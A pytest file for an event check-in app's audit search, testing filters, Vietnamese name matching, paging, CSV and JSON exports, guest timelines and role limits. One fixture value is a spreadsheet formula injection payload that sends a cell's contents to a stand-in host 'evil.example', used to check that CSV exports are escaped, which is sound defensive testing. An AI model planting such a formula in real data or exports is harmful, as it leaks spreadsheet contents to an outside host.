"""The officer's scan search over journals the real gate code wrote and the service ingested: each
filter, names typed without diacritics, short codes, keyset paging, the CSV (safe for spreadsheets)
and JSON exports streamed, a guest's timeline linked from the guest page, and `checkin audit export`."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from checkin.config import Config
from checkin.core.credential import stored_short_code
from checkin.files import FORMULA_STARTS
from checkin.store import Store, guests
from checkin.store.journal import JournalRefused
from tests.support.apikit import Clock
from tests.support.auditkit import AuditGate, add_gate, issue_guest
from tests.support.cli import CHECKIN, clean_env, ok, run_cli
from tests.support.gatekit import forged
from tests.support.world import EVENT_ID

SCANS = f"/audit/events/{EVENT_ID}/scans"
HOSTILE_OPERATOR = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


@dataclass
class Day:
    anh: int
    an: int
    anh_text: str
    hall: AuditGate
    vip: AuditGate


@pytest.fixture
def day(store: Store, config: Config, clock: Clock, tmp_path: Path) -> Day:
    """Nguyễn Thị Ánh enters the hall at 07:10 and the VIP room at 07:40 (her second entry at the hall
    is refused: already inside); Nguyễn Văn An enters the hall at 07:20; a forged code is tried at
    07:30 by an operator whose name is a spreadsheet formula. 75 more admissions fill pages."""
    now = clock()  # 08:00 in Hanoi
    anh, anh_text = issue_guest(store, config, "Nguyễn Thị Ánh", now)
    an, an_text = issue_guest(store, config, "Nguyễn Văn An", now)
    hall = add_gate(store, config, tmp_path, now, "Cổng A - sảnh", "hall")
    vip = add_gate(store, config, tmp_path, now, "Cổng VIP", "vip")
    at = now - timedelta(minutes=50)
    hall.scan(anh_text, at)
    hall.scan(an_text, at + timedelta(minutes=10))
    hall.scan(forged(an_text), at + timedelta(minutes=20), operator=HOSTILE_OPERATOR)
    hall.scan(anh_text, at + timedelta(minutes=25))
    vip.scan(anh_text, at + timedelta(minutes=30))
    for n in range(75):
        _gid, text = issue_guest(store, config, f"Khách {n}", now, organisation="Báo chí")
        vip.scan(text, now - timedelta(hours=3) + timedelta(seconds=n))
    for gate in (hall, vip):
        assert not isinstance(gate.upload(now), JournalRefused)
    return Day(anh, an, anh_text, hall, vip)


def rows_of(client: FlaskClient, **args: str) -> list[str]:
    """The guest cells of a search's first page (names, or the short code of an unknown code)."""
    page = client.get(SCANS, query_string=args)
    assert page.status_code == 200, page.get_data(as_text=True)[-2000:]
    body = page.get_data(as_text=True)
    return re.findall(r'<td class="guest" data-label="[^"]+">(?:<a [^>]+>)?([^<]*)', body)


def test_each_filter(login_as: Callable[[str | None], FlaskClient], day: Day) -> None:
    client = login_as("officer")
    assert len(rows_of(client)) == 50  # a page
    assert rows_of(client, gate=day.hall.device_id) == ["Nguyễn Thị Ánh", "—", "Nguyễn Văn An", "Nguyễn Thị Ánh"]
    assert rows_of(client, zone="vip", name="anh") == ["Nguyễn Thị Ánh"]
    assert rows_of(client, verdict="deny", gate=day.hall.device_id) == ["Nguyễn Thị Ánh", "—"]
    assert rows_of(client, reason="already_inside") == ["Nguyễn Thị Ánh"]
    assert rows_of(client, reason="bad_signature") == ["—"]
    # 07:15 to 07:35 local time, as the form's datetime-local inputs send it
    assert rows_of(client, since="2022-03-26T07:15", until="2022-03-26T07:35") == ["—", "Nguyễn Văn An"]


def test_a_name_typed_without_diacritics_finds_the_guest(
    login_as: Callable[[str | None], FlaskClient], day: Day
) -> None:
    client = login_as("officer")
    assert rows_of(client, name="nguyen thi anh") == ["Nguyễn Thị Ánh", "Nguyễn Thị Ánh", "Nguyễn Thị Ánh"]
    assert rows_of(client, name="NGUYEN  VAN an") == ["Nguyễn Văn An"]
    assert rows_of(client, name="bao chi") == []  # the organisation is not the name
    assert rows_of(client, name="nobody") == []


def test_code_prefix_and_short_code(login_as: Callable[[str | None], FlaskClient], day: Day, store: Store) -> None:
    client = login_as("officer")
    cti = guests.guest_credentials(store, day.anh)[0].cti
    assert set(rows_of(client, code=cti[:6])) == {"Nguyễn Thị Ánh"}
    short = stored_short_code(cti)
    assert len(rows_of(client, code=short.lower().replace("-", " "))) == 3
    refused = client.get(SCANS, query_string={"code": "xyz", "since": "yesterday"})
    assert refused.status_code == 400
    body = refused.get_data(as_text=True)
    assert 'data-field="code"' in body and 'data-field="since"' in body


def test_keyset_paging_walks_every_row_once(login_as: Callable[[str | None], FlaskClient], day: Day) -> None:
    client = login_as("officer")
    seen: list[str] = []
    url: str | None = SCANS
    pages = 0
    while url is not None:
        body = client.get(url).get_data(as_text=True)
        seen += re.findall(r'class="mono">#(\d+)</td>', body)
        found = re.search(r'href="([^"]+)" rel="next"', body)
        url = found.group(1).replace("&amp;", "&") if found else None
        pages += 1
    assert pages == 2 and len(seen) == 80


def test_csv_export_is_safe_in_a_spreadsheet(login_as: Callable[[str | None], FlaskClient], day: Day) -> None:
    client = login_as("officer")
    answer = client.get(SCANS + ".csv", query_string={"gate": day.hall.device_id})
    assert answer.status_code == 200 and answer.is_streamed
    assert "attachment" in answer.headers["Content-Disposition"]
    body = answer.get_data(as_text=True)
    assert body.startswith("\ufeff")  # Excel reads the Vietnamese names right
    rows = list(csv.reader(io.StringIO(body[1:])))
    header, data = rows[0], rows[1:]
    assert len(data) == 4
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    operators = [r[header.index("operator")] for r in data]
    assert "'" + HOSTILE_OPERATOR in operators
    first = dict(zip(header, data[0], strict=True))
    assert first["name"] == "Nguyễn Thị Ánh" and first["time"].startswith("2022-03-26T07:10:00.000+07:00")
    assert first["verdict"] == "admit" and first["zone"] == "hall"


def test_json_export_parses_and_matches_the_filters(login_as: Callable[[str | None], FlaskClient], day: Day) -> None:
    client = login_as("admin")
    answer = client.get(SCANS + ".json", query_string={"name": "nguyen thi anh"})
    assert answer.status_code == 200 and answer.is_streamed
    doc = json.loads(answer.get_data(as_text=True))
    assert doc["event"] == EVENT_ID and doc["filters"] == {"name": "nguyen thi anh"}
    assert [s["reason"] for s in doc["scans"]] == ["admitted", "already_inside", "admitted"]
    assert [s["zone"] for s in doc["scans"]] == ["hall", "hall", "vip"]
    assert client.get(SCANS + ".json", query_string={"code": "??"}).status_code == 400


def test_the_timeline_lists_every_scan_in_time_order_and_the_guest_page_links_it(
    login_as: Callable[[str | None], FlaskClient], day: Day
) -> None:
    client = login_as("admin")
    guest_page = client.get(f"/admin/guests/{day.anh}").get_data(as_text=True)
    link = f"/audit/events/{EVENT_ID}/guests/{day.anh}"
    assert link in guest_page
    body = client.get(link).get_data(as_text=True)
    items = re.findall(r'<li class="tl-item tl-(\w+)">', body)
    assert items == ["admit", "deny", "admit"]
    assert body.index("Cổng A - sảnh") < body.index("Cổng VIP")
    registrar = login_as("registrar")
    assert link not in registrar.get(f"/admin/guests/{day.anh}").get_data(as_text=True)
    assert registrar.get(link).status_code == 403
    assert login_as("officer").get(f"/audit/events/{EVENT_ID}/guests/999999").status_code == 404


def test_registrars_cannot_search_or_export(login_as: Callable[[str | None], FlaskClient], day: Day) -> None:
    client = login_as("registrar")
    for path in (SCANS, SCANS + ".csv", SCANS + ".json"):
        assert client.get(path).status_code == 403


def test_the_cli_exports_the_same_rows(config: Config, day: Day, tmp_path: Path) -> None:
    out = tmp_path / "anh.json"
    args = ["--config", config.root / "config.toml", "audit", "export", "--event", EVENT_ID, "--format", "json"]
    done = ok(run_cli(CHECKIN, *args, "--out", out, "--name", "nguyen thi anh", cwd=tmp_path, env=clean_env()))
    assert "wrote 3 scans" in done.stdout
    assert [s["reason"] for s in json.loads(out.read_text())["scans"]] == ["admitted", "already_inside", "admitted"]
    assert (out.stat().st_mode & 0o777) == 0o600
    table = tmp_path / "all.csv"
    ok(run_cli(CHECKIN, *args[:-1], "csv", "--out", table, cwd=tmp_path, env=clean_env()))
    rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 81
    alerts = tmp_path / "alerts.csv"
    ok(run_cli(CHECKIN, *args[:-1], "csv", "--what", "alerts", "--out", alerts, cwd=tmp_path, env=clean_env()))
    refused = run_cli(CHECKIN, *args, "--out", tmp_path / "x.json", "--code", "??", cwd=tmp_path, env=clean_env())
    assert refused.returncode != 0 and "Traceback" not in refused.stderr
